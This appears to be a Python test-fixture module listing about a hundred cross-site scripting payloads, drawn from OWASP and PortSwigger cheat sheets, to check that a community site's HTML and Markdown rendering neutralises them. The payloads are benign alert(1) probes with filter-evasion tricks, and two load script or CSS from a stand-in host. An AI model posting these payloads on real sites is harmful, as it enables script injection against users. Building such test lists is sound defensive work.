"""Cross-site scripting payloads that members might post as text.

Used on the rendered HTML here (community/tests/test_rendering.py) and in a real
browser later: every entry is something a member could type into a comment, a
topic, a reply or a bio. Sources: the OWASP XSS filter evasion cheat sheet,
PortSwigger's XSS cheat sheet and Markdown-specific tricks.
"""

ZWSP = "\u200b"  # zero-width space
ZWJ = "\u200d"  # zero-width joiner
RLO = "\u202e"  # right-to-left override

PAYLOADS: list[str] = [
    # Script tags
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/xss>alert(1)</script>",
    '<script src="data:text/javascript,alert(1)"></script>',
    "<<script>alert(1);//<</script>",
    "</p><script>alert(1)</script><p>",
    "<script>\nalert(1)\n</script>",
    # Event handlers
    '<img src=x onerror="alert(1)">',
    "<img src=x onerror=alert(1)//",
    "<body onload=alert(1)>",
    '<div onmouseover="alert(1)">hover</div>',
    "<input autofocus onfocus=alert(1)>",
    '<details open ontoggle="alert(1)">',
    "<a href=https://ok.example onclick=alert(1)>click</a>",
    "<b/onclick=alert(1)>bold</b>",
    '<p ONCLICK="alert(1)">caps</p>',
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    # javascript:, data:, vbscript: URLs
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">mixed case</a>',
    '<a href="  javascript:alert(1)">leading spaces</a>',
    '<a href="java\tscript:alert(1)">tab split</a>',
    '<a href="java\nscript:alert(1)">newline split</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)">x</a>',  # noqa: E501
    '<a href="&#x6A;avascript&#x3A;alert(1)">hex</a>',
    '<a href="javascript&colon;alert(1)">named entity</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
    '<a href="vbscript:msgbox(1)">vb</a>',
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x]( javascript:alert(1) )",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:msgbox(1))",
    "[x][1]\n\n[1]: javascript:alert(1)",
    '[x](https://ok.example "title" onclick="alert(1)")',
    '[x](https://ok.example"onmouseover="alert(1))',
    "<javascript:alert(1)>",
    "<vbscript:msgbox(1)>",
    "<data:text/html,alert(1)>",
    "![x](javascript:alert(1))",
    '![x](https://ok.example/a.png"onerror="alert(1))',
    # SVG and MathML
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg><animate attributeName="href" to="javascript:alert(1)"/></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">x</math>',
    # iframe, object, embed, base, meta, form
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<base href="javascript:alert(1)//">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    '<link rel="stylesheet" href="javascript:alert(1)">',
    # style and expression()
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<div style="width:expression(alert(1))">ie</div>',
    '<p style="background-image:url(&quot;javascript:alert(1)&quot;)">x</p>',
    "<style>@import 'https://evil.example/x.css';</style>",
    # Broken, nested and unclosed markup; attribute breaking quotes
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '<a href="https://ok.example/"onclick="alert(1)">quote break</a>',
    "<a href='https://ok.example/' onclick='alert(1)'>single quotes</a>",
    "<img src=`x` onerror=`alert(1)`>",
    "<img\nsrc=x\nonerror=alert(1)>",
    "<img src=x onerror=alert(1)",
    '<a href="https://ok.example\n<script>alert(1)</script>',
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<textarea></textarea><script>alert(1)</script>",
    "<title></title><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "> <script>alert(1)</script>",
    "- <img src=x onerror=alert(1)>",
    "**<img src=x onerror=alert(1)>**",
    "[<img src=x onerror=alert(1)>](https://ok.example)",
    'https://ok.example/"><script>alert(1)</script>',
    "https://ok.example/<img/src=x/onerror=alert(1)>",
    # HTML entities
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3C;img src=x onerror=alert(1)&#x3E;",
    # Unicode tricks
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",  # fullwidth < >
    f"<scr{ZWSP}ipt>alert(1)</script>",
    f"[x](java{ZWSP}script:alert(1))",
    f"[x](java{ZWJ}script:alert(1))",
    f'<a href="java{ZWSP}script:alert(1)">zero width</a>',
    f"{RLO}<script>alert(1)</script>",
    f"[https://ok.example/{RLO}gpj.exe](javascript:alert(1))",
    r"\u003cscript\u003ealert(1)\u003c/script\u003e",  # JavaScript escapes
    "<\x00script>alert(1)</script>",
    '<a href="\x01javascript:alert(1)">control char</a>',
    "%3Cscript%3Ealert(1)%3C/script%3E",
]
